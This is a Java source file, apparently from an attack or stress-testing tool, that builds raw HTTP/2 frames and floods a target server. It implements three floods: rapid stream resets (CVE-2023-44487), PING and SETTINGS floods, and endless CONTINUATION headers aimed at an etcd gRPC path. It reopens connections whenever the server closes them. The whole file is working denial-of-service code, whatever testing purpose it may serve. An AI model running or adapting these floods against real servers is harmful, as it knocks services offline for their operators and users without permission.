package io.balsa.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import io.balsa.bytes.HostPort;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;

/**
 * Floods of HTTP/2 frames that no protocol library would send. A connection that the server closes
 * is opened anew.
 */
final class RawFrames {
  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII);
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_HEADERS = 4;
  private static final int CANCEL = 8;
  private static final int BATCH = 100;
  private static final int CONNECT_MILLIS = 5_000;

  /** Stream numbers end at 2^31. */
  private static final int STREAM_MAX = Integer.MAX_VALUE - 2 * BATCH;

  /** After a connection was closed or refused; otherwise a client would only open connections. */
  private static final Duration PAUSE = Duration.ofMillis(20);

  private RawFrames() {}

  /** Writes a part of a flood. */
  private interface Flood {
    /**
     * @param stream a number that no stream of the connection has; the next ones are free too
     */
    void write(DataOutputStream out, int stream) throws IOException;
  }

  /** Calls that are reset at once (CVE-2023-44487). */
  static void resets(AttackRun run) {
    byte[] headers = headers();
    byte[] cancel = {0, 0, 0, CANCEL};
    repeat(
        run,
        (out, stream) -> {
          for (int i = 0; i < BATCH; i++) {
            frame(out, HEADERS, END_HEADERS, stream + 2 * i, headers);
            frame(out, RST_STREAM, 0, stream + 2 * i, cancel);
          }
        });
  }

  /** Pings and settings, which the server has to acknowledge. */
  static void pings(AttackRun run) {
    byte[] ping = new byte[8];
    repeat(
        run,
        (out, _) -> {
          for (int i = 0; i < BATCH; i++) {
            frame(out, i % 2 == 0 ? PING : SETTINGS, 0, 0, i % 2 == 0 ? ping : new byte[0]);
          }
        });
  }

  /** Headers that go on and never end. */
  static void continuations(AttackRun run) {
    byte[] headers = headers();
    repeat(
        run,
        (out, stream) -> {
          frame(out, stream == 1 ? HEADERS : CONTINUATION, 0, 1, headers);
          for (int i = 0; i < BATCH; i++) {
            frame(out, CONTINUATION, 0, 1, new byte[0]);
          }
        });
  }

  private static void repeat(AttackRun run, Flood flood) {
    run.eachAlone(
        () -> {
          while (!run.isOver()) {
            run.tally().add(flood(run, flood));
            AttackRun.pause(PAUSE);
          }
        });
  }

  private static String flood(AttackRun run, Flood flood) {
    HostPort address = run.address();
    Socket socket = run.socket();
    try {
      socket.connect(new InetSocketAddress(address.host(), address.port()), CONNECT_MILLIS);
      DataOutputStream out = new DataOutputStream(socket.getOutputStream());
      out.write(PREFACE);
      frame(out, SETTINGS, 0, 0, new byte[0]);
      for (int stream = 1; !run.isOver() && stream < STREAM_MAX; stream += 2 * BATCH) {
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        flood.write(new DataOutputStream(batch), stream);
        out.write(batch.toByteArray());
        drain(socket.getInputStream());
      }
      return "open until the end";
    } catch (IOException closed) {
      return run.isOver() ? "open until the end" : "connection closed by the server";
    } finally {
      run.end(socket);
    }
  }

  private static void drain(InputStream in) throws IOException {
    for (int left = in.available(); left > 0; left = in.available()) {
      in.skipNBytes(left);
    }
  }

  private static void frame(DataOutputStream out, int type, int flags, int stream, byte[] payload)
      throws IOException {
    out.writeByte(payload.length >>> 16);
    out.writeShort(payload.length);
    out.writeByte(type);
    out.writeByte(flags);
    out.writeInt(stream);
    out.write(payload);
  }

  private static byte[] headers() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    header(block, ":method", "POST");
    header(block, ":scheme", "http");
    header(block, ":path", "/etcdserverpb.KV/Range");
    header(block, ":authority", "x");
    header(block, "content-type", "application/grpc");
    header(block, "te", "trailers");
    return block.toByteArray();
  }

  /** A header without compression; both texts are shorter than 127 bytes. */
  private static void header(ByteArrayOutputStream block, String name, String value) {
    block.write(0);
    block.write(name.length());
    block.writeBytes(name.getBytes(US_ASCII));
    block.write(value.length());
    block.writeBytes(value.getBytes(US_ASCII));
  }
}
